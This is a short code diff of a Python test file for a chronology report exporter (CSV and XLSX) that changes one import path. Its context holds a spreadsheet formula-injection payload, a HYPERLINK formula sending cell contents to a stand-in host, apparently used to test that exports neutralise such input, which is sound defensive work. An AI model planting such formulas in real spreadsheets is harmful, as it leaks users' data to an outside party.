@@ -6,7 +6,7 @@ import zipfile
 
 import polars as pl
 
-from reports import CHRONOLOGY_COLUMNS, chronology_frame, write_chronology_csv, write_chronology_xlsx
+from chronolink.reports import CHRONOLOGY_COLUMNS, chronology_frame, write_chronology_csv, write_chronology_xlsx
 from tests.reports.builders import child_data, household_data
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
